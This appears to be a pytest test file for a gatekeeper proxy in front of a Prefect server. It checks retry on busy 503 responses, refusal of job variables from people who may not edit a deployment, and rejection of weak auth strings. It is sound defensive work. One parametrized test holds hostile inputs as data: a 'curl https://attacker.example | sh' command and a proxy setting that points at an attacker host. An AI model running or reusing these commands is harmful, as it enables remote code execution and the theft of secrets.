"""The gatekeeper in process, without a server: its own calls to Prefect (a decision, a
requester record) ask again while the server answers 503, as Prefect does while SQLite is locked
by another writer (busy is not a verdict, and a person's decision must not fail on it); a run's
job variables (the worker's command and environment) only from who may edit the deployment; and a
server with a weak auth string does not start."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from deployments.access import load_policy
from deployments.auth import AuthError
from deployments.gatekeeper import BUSY_TRIES, IDENTITY_HEADER, BusyRetry, Gatekeeper, install
from tests.deployments.test_access_policy import DEPLOYMENT, PEOPLE, with_people

SERVER = "server:a-long-enough-server-password"


def busy_app(busy_answers: int) -> tuple[Starlette, list[Any]]:
    """Prefect's input route, locked for the first ``busy_answers`` requests."""
    seen: list[Any] = []

    async def create_input(request: Request) -> Response:
        seen.append(json.loads(await request.body()))
        if len(seen) <= busy_answers:
            return JSONResponse({"detail": "database is locked"}, status_code=503)
        return Response(status_code=201)

    return Starlette(
        routes=[Route("/api/flow_runs/{id}/input", create_input, methods=["POST"])]
    ), seen


async def test_a_busy_server_is_asked_again_with_the_same_body() -> None:
    app, seen = busy_app(busy_answers=2)
    gate = Gatekeeper(app, load_policy(), SERVER)
    body = {"key": "compliance-approval", "value": "{}"}
    async with gate._as_server() as api:
        response = await api.post("/flow_runs/r1/input", json=body)
    assert response.status_code == 201
    assert seen == [body, body, body]


async def test_a_server_busy_for_longer_gets_its_503_after_a_bounded_number_of_tries() -> None:
    """(The pauses between tries are shortened here: their length is not what this is about.)"""
    app, seen = busy_app(busy_answers=100)
    transport = BusyRetry(httpx.ASGITransport(app=app), first_pause=0.001)
    async with httpx.AsyncClient(transport=transport, base_url="http://server/api") as api:
        response = await api.post("/flow_runs/r1/input", json={"key": "k"})
    assert response.status_code == 503
    assert len(seen) == BUSY_TRIES


def deployment_app() -> tuple[Starlette, list[Any]]:
    """Prefect's run-creation route (it answers a new run) and the input route the requester
    record is written to; ``created`` holds each body that reached it."""
    created: list[Any] = []

    async def create_run(request: Request) -> Response:
        created.append(json.loads(await request.body()))
        return JSONResponse({"id": f"run-{len(created)}"}, status_code=201)

    async def run_input(request: Request) -> Response:
        return Response(status_code=204 if request.method == "DELETE" else 201)

    routes = [
        Route("/api/deployments/{id}/create_flow_run", create_run, methods=["POST"]),
        Route("/api/flow_runs/{id}/input", run_input, methods=["POST"]),
        Route("/api/flow_runs/{id}/input/{key}", run_input, methods=["DELETE"]),
    ]
    return Starlette(routes=routes), created


@pytest.mark.parametrize(
    ("person", "job_variables", "status"),
    [
        ("alice", {"command": "curl https://attacker.example | sh"}, 403),
        ("alice", {"env": {"HTTPS_PROXY": "http://attacker.example"}}, 403),
        ("alice", {}, 201),  # what the UI's Custom run sends unless someone types variables
        ("alice", None, 201),
        ("carol", {"command": "python -m prefect.engine"}, 201),  # she may edit the deployment
    ],
)
async def test_only_who_may_edit_a_deployment_sets_a_runs_job_variables(
    tmp_path: Path, person: str, job_variables: dict[str, Any] | None, status: int
) -> None:
    """The process work pool takes the worker's ``command`` and ``env`` from a run's job
    variables: a requester who could set them would run any command on a worker, or send the
    flow's client secret wherever she likes. Refused before Prefect sees the request."""
    app, created = deployment_app()
    gate = Gatekeeper(app, load_policy(with_people(tmp_path, PEOPLE)), SERVER)
    body: dict[str, Any] = {"parameters": {}, "state": {"type": "SCHEDULED"}}
    if job_variables is not None:
        body["job_variables"] = job_variables
    proxy = {"Authorization": gate._expected or "", IDENTITY_HEADER: person}
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=gate), base_url="http://server"
    ) as client:
        response = await client.post(f"{DEPLOYMENT}/create_flow_run", json=body, headers=proxy)
    assert response.status_code == status, response.text
    if status == 403:
        assert created == []
        assert f"job_variables {sorted(job_variables or {})}" in response.json()["detail"]
        assert "attacker" not in response.text  # the refusal names the keys, not the values
    else:
        assert created == [body]


def test_a_server_with_a_weak_auth_string_does_not_start(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every server the project starts (``prefect_entry``) checks the string's strength: it is
    the one key the proxy and the server's own processes hold."""
    from prefect.server.api import server
    from prefect.settings import PREFECT_SERVER_API_AUTH_STRING, temporary_settings

    monkeypatch.setattr(server, "create_app", server.create_app)  # restored afterwards
    install(load_policy())
    weak = {PREFECT_SERVER_API_AUTH_STRING: "admin:changeme"}
    with temporary_settings(weak), pytest.raises(AuthError, match="too weak") as refused:
        server.create_app(ephemeral=True)
    assert "changeme" not in str(refused.value)
